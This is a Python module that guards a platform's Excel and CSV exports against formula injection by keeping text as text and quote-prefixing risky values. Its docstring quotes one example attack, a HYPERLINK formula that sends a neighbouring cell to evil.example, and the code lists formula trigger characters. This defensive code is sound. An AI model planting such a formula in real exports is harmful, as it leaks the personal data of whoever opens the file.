"""Every Excel and CSV file the platform writes goes through here: text is written as text, never as a formula.

A name typed as ``=HYPERLINK("http://evil.example/?"&A1,"点击")`` (or beginning with ``+``, ``-``,
``@``, a tab or a carriage return, OWASP "CSV injection") would otherwise run as a formula in the
spreadsheet program of whoever opens the export: it can send neighbouring cells (ID numbers,
phones) to a web address, or start programs in older Excel versions.

* Excel (openpyxl): a text value is a string cell (``data_type = "s"``, openpyxl would otherwise
  make anything starting with ``=`` a formula cell) and, if it starts like a formula, carries
  Excel's "quote prefix" style, so editing the cell in Excel keeps it text too. The value itself is
  unchanged, so an export read back by the import is the same data.
* CSV has no types: a text value that starts like a formula gets a leading apostrophe, as OWASP
  recommends; spreadsheet programs show it without the apostrophe and do not evaluate it.

Only text is touched: a number (a negative floor, a refund's negative amount) stays a number.

Used by the inventory export (estates.inventory), the arrears export (billing.admin_views) and every
back-office list export (``SafeSpreadsheetExportMixin`` in the scoped index views).
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

from openpyxl.cell import Cell, WriteOnlyCell

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def starts_like_formula(text: str) -> bool:
    """Whether a spreadsheet program could take this text for a formula (OWASP's list of first characters)."""
    return text.startswith(FORMULA_TRIGGERS)


def looks_like_formula(text: str) -> bool:
    """``starts_like_formula``, except a plain signed number such as ``-1`` (a basement floor): the
    import refuses what looks like a formula but accepts a number written as text."""
    return starts_like_formula(text) and not _PLAIN_NUMBER.fullmatch(text)


def csv_value(value: Any) -> Any:
    """A value for a CSV cell: risky text gets a leading apostrophe; anything else is unchanged."""
    if isinstance(value, str) and starts_like_formula(value):
        return "'" + value
    return value


def as_text_cell(cell: Cell) -> Cell:
    """Make a write-only cell holding text a string cell, quote-prefixed when it starts like a formula."""
    if isinstance(cell.value, str):
        cell.data_type = "s"
        if starts_like_formula(cell.value):
            cell.quotePrefix = True
    return cell


def xlsx_cell(worksheet, value: Any, *, number_format: str | None = None) -> Cell:
    # WriteOnlyCell is a factory of Cell objects, not a class.
    cell = value if isinstance(value, Cell) else WriteOnlyCell(worksheet, value=value)
    if number_format:
        cell.number_format = number_format
    return as_text_cell(cell)


def xlsx_row(worksheet, values: Iterable[Any]) -> list[Cell]:
    """A row for ``worksheet.append`` in a write-only workbook, every text as text."""
    return [xlsx_cell(worksheet, value) for value in values]


class SafeSpreadsheetExportMixin:
    """For views built on Wagtail's ``SpreadsheetExportMixin`` (every ModelViewSet index view with
    ``list_export``): its XLSX rows already avoid formula cells but not Excel's re-evaluation on
    edit, and its CSV rows are written raw."""

    def generate_xlsx_row(self, worksheet, row_dict, date_format=None):
        for cell in super().generate_xlsx_row(worksheet, row_dict, date_format=date_format):
            yield as_text_cell(cell)

    def write_csv_row(self, writer, row_dict):
        return writer.writerow(
            {field: csv_value(self.preprocess_field_value(field, value, self.FORMAT_CSV)) for field, value in row_dict.items()}
        )
